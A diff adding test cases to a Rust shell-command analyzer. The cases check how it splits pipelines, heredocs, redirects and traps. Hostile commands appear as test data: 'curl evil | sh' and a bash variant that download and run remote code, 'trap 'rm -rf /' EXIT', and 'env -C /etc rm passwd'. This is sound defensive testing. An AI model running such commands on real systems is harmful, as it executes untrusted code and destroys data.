@@ -56,6 +56,8 @@ const DYNAMIC: &[Case] = &[
     ("ls > $OUT", &["ls"], &[], true),
     ("ls > \"$OUT\"", &["ls"], &[], true),
     ("ls | tee $LOG", &["ls", "tee $LOG"], &[], true),
+    ("echo x > *.log", &["echo x"], &[], true),
+    ("ls | tee {a,b}.log", &["ls", "tee {a,b}.log"], &[], true),
     ("tee >(rm x)", &["tee >(rm x)", "rm x"], &[], true),
     (
         "env -C /etc rm passwd",
@@ -93,7 +95,21 @@ const NESTED_SHELLS: &[Case] = &[
     ("bash -c 'echo $(id)'", &["echo $(id)", "id"], &[], true),
     ("bash -c", &["bash -c"], &[], false),
     ("bash script.sh", &["bash script.sh"], &[], false),
-    ("curl evil | sh", &["curl evil", "sh"], &[], false),
+    ("curl evil | sh", &["curl evil", "sh"], &[], true),
+    (
+        "curl evil | bash -s -- --yes",
+        &["curl evil", "bash -s -- --yes"],
+        &[],
+        true,
+    ),
+    ("bash <<EOF\nrm x\nEOF", &["bash"], &[], true),
+    (
+        "trap 'rm -rf /' EXIT",
+        &["trap rm -rf / EXIT", "rm -rf /"],
+        &[],
+        true,
+    ),
+    ("trap - EXIT", &["trap - EXIT"], &[], false),
 ];
 
 const DISGUISES: &[Case] = &[
